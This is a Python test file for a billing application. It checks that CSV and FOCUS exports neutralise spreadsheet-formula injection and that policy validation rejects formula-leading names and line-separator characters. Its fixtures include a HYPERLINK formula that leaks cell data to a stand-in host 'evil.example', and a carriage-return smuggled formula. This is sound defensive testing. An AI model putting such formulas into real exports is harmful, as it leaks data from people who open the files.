"""CSV and FOCUS exports never start a cell with a spreadsheet formula, in any column; normal bytes are unchanged."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
from sqlmodel import select

from app.billing import exports
from app.billing.models import ChargeLineRecord, LineSource
from app.core import safe_text
from app.core.errors import Invalid
from app.core.safe_text import FORMULA_START
from app.policy.document import PolicyDocument
from app.policy.parsing import parse_document
from app.policy.service import dump_yaml
from tests.support.billing import policy_doc

OCT1 = datetime(2026, 10, 1, tzinfo=UTC)
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
TEXT_FIELDS = ["line_id", "account", "department", "pool", "kind", "klass", "service", "unit", "corrects", "reason"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))[1:]


def _assert_inert(data: bytes, columns: list[str]) -> None:
    rows = _cells(data)
    assert rows
    for row in rows:
        for column, cell in zip(columns, row, strict=True):
            assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), (column, cell)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_text_column_is_neutralised(session, october, lead):
    lines = session.exec(select(ChargeLineRecord).where(ChargeLineRecord.period_id == october.id)).all()
    for n, line in enumerate(lines):
        for field in TEXT_FIELDS:
            setattr(line, field, f"{lead}{EVIL[1:]}|{field}|{n}")  # unique line ids stay unique
    session.flush()
    session.expire_all()
    csv_bytes = exports.render(session=session, period=october, fmt="csv")
    focus_bytes = exports.render(session=session, period=october, fmt="focus")
    _assert_inert(csv_bytes, exports.CSV_COLUMNS)
    _assert_inert(focus_bytes, exports.FOCUS_COLUMNS)
    # Every text column was reached: each carries the marked value, prefixed, not dropped.
    header = exports.CSV_COLUMNS
    first = dict(zip(header, _cells(csv_bytes)[0], strict=True))
    for column in ("line_id", "account", "department", "pool", "kind", "class", "service", "unit", "corrects", "reason"):
        assert first[column].startswith("'" + lead), column
    focus = dict(zip(exports.FOCUS_COLUMNS, _cells(focus_bytes)[0], strict=True))
    for column in ("BillingAccountId", "BillingAccountName", "ChargeDescription", "InvoiceId", "PricingUnit",
                   "ResourceId", "ResourceName", "SubAccountId", "SubAccountName", "x_LineId", "x_Corrects"):
        assert focus[column][:1] not in FORMULA_START, column


def test_numbers_stay_numeric_and_normal_exports_are_unchanged(session, october, monkeypatch):
    rendered = {fmt: exports.render(session=session, period=october, fmt=fmt) for fmt in ("csv", "focus")}
    amounts = [row[exports.CSV_COLUMNS.index("amount")] for row in _cells(rendered["csv"])]
    assert any(a.startswith("-") for a in amounts) and all(NUMBER.fullmatch(a) for a in amounts)
    monkeypatch.setattr(safe_text, "neutralise", lambda value: value)
    assert {fmt: exports.render(session=session, period=october, fmt=fmt) for fmt in ("csv", "focus")} == rendered


def test_policy_validation_refuses_formula_names():
    base = policy_doc().to_data()
    base["tenants"][0]["department"] = EVIL
    base["pools"][0]["name"] = "+cmd"
    base["sla"][0]["service"] = "@evil"
    with pytest.raises(Invalid) as info:
        parse_document(dump_yaml(PolicyDocument.model_validate(base)))
    paths = {e.path for e in info.value.errors if "formula" in e.message}
    # Named items by their (refused) names, as the diff names them.
    assert paths == {f"tenants[{base['tenants'][0]['name']}].department", "pools[+cmd].name", "sla[@evil].service"}


def test_a_reason_with_a_bare_carriage_return_stays_one_inert_cell(session, october):
    """Stored before validation refused it (or written by SQL): `late fix\\r=SUM(1+2)` was an unquoted cell, and a
    reader splitting rows on CR got a row starting with the live formula."""
    line = session.exec(select(ChargeLineRecord).where(ChargeLineRecord.period_id == october.id)).first()
    line.reason, line.source, line.corrects = "late fix\r=SUM(1+2)", LineSource.CORRECTION, "2026-09/L1"
    session.flush()
    session.expire_all()
    for fmt, columns, column in (("csv", exports.CSV_COLUMNS, "reason"), ("focus", exports.FOCUS_COLUMNS, "ChargeDescription")):
        data = exports.render(session=session, period=october, fmt=fmt)
        rows = _cells(data)
        assert all(len(row) == len(columns) for row in rows), fmt  # no row split off at the CR
        cells = [dict(zip(columns, row, strict=True))[column] for row in rows]
        assert [c for c in cells if "SUM" in c] and all("\r=" not in c for c in cells), fmt
        assert any(c.endswith("late fix\r'=SUM(1+2)") for c in cells), fmt


@pytest.mark.parametrize("char", ["\u2028", "\x85", "\u2029", "\r", "\n", "\x7f", "\x9b"])
def test_policy_validation_refuses_control_and_line_separators_in_names(char):
    """A department name is the subject of its budget mail: U+2028 or NEL there stopped the mail for good."""
    base = policy_doc().to_data()
    base["tenants"][0]["department"] = f"research{char}"
    base["pools"][0]["name"] = f"pool{char}a"
    base["priorities"][0]["name"] = f"{char}gold"
    # As JSON (a YAML document too): its escapes reach the parser exactly, where a raw NEL in plain YAML folds to a space.
    text = json.dumps(PolicyDocument.model_validate(base).model_dump(mode="json", by_alias=True))
    with pytest.raises(Invalid) as info:
        parse_document(text)
    found = {e.path: e.message for e in info.value.errors if f"U+{ord(char):04X}" in e.message}
    assert f"tenants[{base['tenants'][0]['name']}].department" in found
    assert any(path.startswith("pools[") and path.endswith("].name") for path in found)
    assert any(path.startswith("priorities[") and path.endswith("].name") for path in found)
